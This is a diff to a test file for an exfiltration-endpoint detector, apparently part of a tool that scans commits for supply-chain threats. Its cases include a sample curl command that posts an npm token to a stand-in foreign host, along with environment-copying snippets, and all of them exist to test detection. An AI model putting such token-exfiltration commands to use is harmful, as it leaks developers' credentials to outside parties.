@@ -1,4 +1,5 @@
 import detector from "../../../../src/engine/detectors/content/exfil-endpoint.ts";
+import { NPM_HOST } from "../../../../src/engine/model/dependency-examples.ts";
 import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
 import { strengthsOf } from "../run-detector.ts";
 
@@ -21,7 +22,7 @@ test.each([
   ],
   ["a copy of the environment", "a.py", "env = os.environ.copy()\nrequests.get(u)", []],
   ["a foreign token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://a.example/', ["strong"]],
-  ["the owner's token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://registry.npmjs.org/', []],
+  ["the owner's token", "a.sh", `curl -d "t=$NPM_TOKEN" https://${NPM_HOST}/`, []],
   ["an ordinary host", "src/a.js", 'fetch("https://api.example.com")', []],
   ["a picture's text", "assets/a.jpg", `https://${COLLECTOR}/x`, []],
 ] as const)("%s", (_, path, added, expected) => {
